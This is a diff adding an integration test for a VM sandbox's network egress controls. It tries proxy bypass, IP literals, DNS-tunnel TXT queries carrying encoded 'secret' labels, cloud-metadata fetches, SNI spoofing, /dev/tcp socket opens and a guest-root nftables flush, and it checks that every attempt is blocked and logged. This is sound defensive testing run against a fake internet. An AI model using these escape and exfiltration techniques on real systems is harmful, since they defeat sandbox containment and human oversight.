@@ -1,0 +1,164 @@
+// Egress enforcement from inside real VM guests (issue 4). The runner itself runs in the test
+// world's "host" namespace (net-topology.ts), whose only route leads to the fake internet, so no
+// attempt, blocked or not, can leave this machine. Each attempt must fail and be logged, while an
+// allowed HTTPS and HTTP fetch succeeds; then guest root flushes its own nftables and every
+// attempt is made again.
+import { execFile } from "node:child_process";
+import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
+import { tmpdir } from "node:os";
+import path from "node:path";
+import { promisify } from "node:util";
+import { afterAll, beforeAll, describe, expect, it } from "vitest";
+import { packageRoot } from "../../runner/cli/policy-files.js";
+import type { SandboxReport } from "../../runner/sandbox/index.js";
+import { buildTemplate } from "../../runner/sandbox/vm/index.js";
+import { requireRoot, TEST_STATE_DIR } from "./helpers.js";
+import { buildTopology, HOST_NS } from "./net-topology.js";
+import type { Topology } from "./net-topology.js";
+
+const exec = promisify(execFile);
+const RESOLV = `/etc/netns/${HOST_NS}`;
+let topology: Topology;
+
+interface Run {
+  code: number;
+  stdout: string;
+  stderr: string;
+  report: SandboxReport;
+}
+
+/** `sandboxed sandbox exec` inside the host namespace, as a user would run it. */
+async function sandboxRun(policyYaml: string, script: string): Promise<Run> {
+  const dir = mkdtempSync(path.join(tmpdir(), "sbx-egress-"));
+  writeFileSync(
+    path.join(dir, "policy.yml"),
+    `apiVersion: sandboxed/v1\nkind: Policy\n${policyYaml}`,
+  );
+  const bin = path.join(packageRoot(), "bin", "sandboxed.js");
+  const args = [
+    `--net=/run/netns/${HOST_NS}`,
+    "--",
+    process.execPath,
+    bin,
+    "sandbox",
+    "exec",
+    "--accel",
+    "tcg",
+    "--template",
+    "minimal",
+  ];
+  args.push(
+    "--state-dir",
+    TEST_STATE_DIR,
+    "--dns-server",
+    "8.8.8.8",
+    "--policy",
+    path.join(dir, "policy.yml"),
+    "--report",
+    path.join(dir, "report.json"),
+  );
+  args.push("--", "bash", "-c", script);
+  let code = 0;
+  let stdout: string;
+  let stderr: string;
+  try {
+    ({ stdout, stderr } = await exec("nsenter", args, { maxBuffer: 16 * 2 ** 20 }));
+  } catch (error) {
+    ({ code, stdout, stderr } = error as { code: number; stdout: string; stderr: string });
+  }
+  const report = JSON.parse(readFileSync(path.join(dir, "report.json"), "utf8")) as SandboxReport;
+  return { code, stdout, stderr, report };
+}
+
+const RESOURCES = "resources: { cpus: 1, memory: 512MiB, disk: 256MiB, timeout: 5m }\n";
+const ALLOW = `${RESOURCES}network:\n  mode: allowlist\n  allow:\n    - allowed.test\n    - loopback.test\n    - metadata.test\n    - private.test\n`;
+
+/** Every way out that must fail. Each line prints "<name>: REACHED" or "<name>: blocked". */
+const ATTEMPTS = String.raw`
+PROXY_HOSTPORT=$(echo $HTTPS_PROXY | sed 's#http://##')
+PROXY_HOST=$(echo $PROXY_HOSTPORT | sed 's#:.*##')
+GATEWAY=$(ip route | awk '/default/ {print $3}')
+t() { n=$1; shift; if timeout 8 "$@" >/dev/null 2>&1; then echo "$n: REACHED"; else echo "$n: blocked"; fi; }
+C="curl -fsS --connect-timeout 3 -m 6"
+t no-proxy-http        $C --noproxy '*' http://93.184.216.34/
+t no-proxy-https       $C --noproxy '*' -k https://93.184.216.34/
+t ip-literal           $C http://203.0.113.10/
+t ip-literal-https     $C -k https://203.0.113.10/
+t denied-name          $C -k https://forbidden.test/
+t dns-udp-outside      busybox nslookup allowed.test 8.8.8.8
+t dns-tcp-outside      bash -c 'exec 3<>/dev/tcp/1.1.1.1/53'
+t dns-tunnel-txt       busybox nslookup -type=TXT c2VjcmV0.allowed.test
+t dns-denied-name      busybox nslookup exfil-c2VjcmV0.forbidden.test
+t forbidden-port       $C -k https://allowed.test:8443/
+t sni-mismatch         bash -c "echo | openssl s_client -proxy $PROXY_HOSTPORT -connect allowed.test:443 -servername forbidden.test 2>&1 | grep -q 'BEGIN CERTIFICATE'"
+t rebind-loopback      $C http://loopback.test/
+t rebind-metadata      $C http://metadata.test/
+t rebind-private       $C http://private.test/
+t metadata-direct      $C --noproxy '*' http://169.254.169.254/
+t metadata-proxy       $C http://169.254.169.254/
+t ipv6                 $C -6 --noproxy '*' 'http://[2606:4700:4700::1111]/'
+t icmp                 busybox ping -c 1 -W 2 8.8.8.8
+t raw-socket           sudo busybox ping -c 1 -W 2 93.184.216.34
+t host-other-port      bash -c "exec 3<>/dev/tcp/$PROXY_HOST/22"
+t gateway-ssh          bash -c "exec 3<>/dev/tcp/$GATEWAY/22"
+`;
+
+const NAMES = [...ATTEMPTS.matchAll(/^t (\S+)/gm)].map((m) => m[1]!);
+
+beforeAll(async () => {
+  requireRoot();
+  await buildTemplate({ name: "minimal", stateDir: TEST_STATE_DIR, root: packageRoot() });
+  topology = await buildTopology();
+  mkdirSync(RESOLV, { recursive: true });
+  writeFileSync(path.join(RESOLV, "resolv.conf"), "nameserver 8.8.8.8\n");
+}, 900_000);
+
+afterAll(async () => {
+  await topology?.teardown();
+  rmSync(RESOLV, { recursive: true, force: true });
+});
+
+describe("egress from a VM guest", () => {
+  it("allows HTTPS and HTTP to allowed names; every other way out fails and is logged, before and after guest root flushes nftables", async () => {
+    const script = String.raw`
+curl -fsS --connect-timeout 5 -m 20 -k https://allowed.test/ -o /dev/null -w "allowed-https: %{http_code}\n"
+curl -fsS --connect-timeout 5 -m 20 http://allowed.test/ -o /dev/null -w "allowed-http: %{http_code}\n"
+${ATTEMPTS}
+echo "--- after nft flush ruleset"
+sudo nft flush ruleset
+${ATTEMPTS}
+`;
+    const r = await sandboxRun(ALLOW, script);
+    expect(r.stdout).toContain("allowed-https: 200");
+    expect(r.stdout).toContain("allowed-http: 200");
+    const [before, after] = r.stdout.split("--- after nft flush ruleset");
+    for (const name of NAMES) {
+      expect(before, name).toContain(`${name}: blocked`);
+      expect(after, name).toContain(`${name}: blocked`);
+    }
+    const denied = (r.report.egress?.decisions ?? []).filter((d) => d.verdict === "deny");
+    const has = (pred: (d: (typeof denied)[number]) => boolean) => denied.some(pred);
+    // Attempts that reach the proxy or the DNS filter are refused there and logged with a reason.
+    expect(has((d) => d.host === "203.0.113.10" && d.reason === "ip-literal")).toBe(true);
+    expect(has((d) => d.host === "forbidden.test" && d.kind === "connect")).toBe(true);
+    expect(
+      has((d) => d.host === "allowed.test" && d.port === 8443 && d.reason === "port-not-allowed"),
+    ).toBe(true);
+    expect(has((d) => d.reason === "sni-mismatch")).toBe(true);
+    expect(has((d) => d.host === "loopback.test" && d.reason === "forbidden-address")).toBe(true);
+    expect(has((d) => d.host === "metadata.test" && d.reason === "forbidden-address")).toBe(true);
+    expect(has((d) => d.host === "private.test" && d.reason === "forbidden-address")).toBe(true);
+    expect(has((d) => d.kind === "dns" && d.qtype === "TXT")).toBe(true);
+    expect(has((d) => d.kind === "dns" && d.host.endsWith("forbidden.test"))).toBe(true);
+    expect(r.report.egress?.allowed).toBeGreaterThanOrEqual(2);
+  });
+
+  it("network.mode none: the guest has no NIC at all", async () => {
+    const r = await sandboxRun(
+      `${RESOURCES}network: { mode: none }\n`,
+      "ls /sys/class/net | tr '\\n' ' '; echo",
+    );
+    expect(r.stdout.trim()).toBe("lo");
+    expect(r.report.egress).toBeUndefined();
+  });
+});
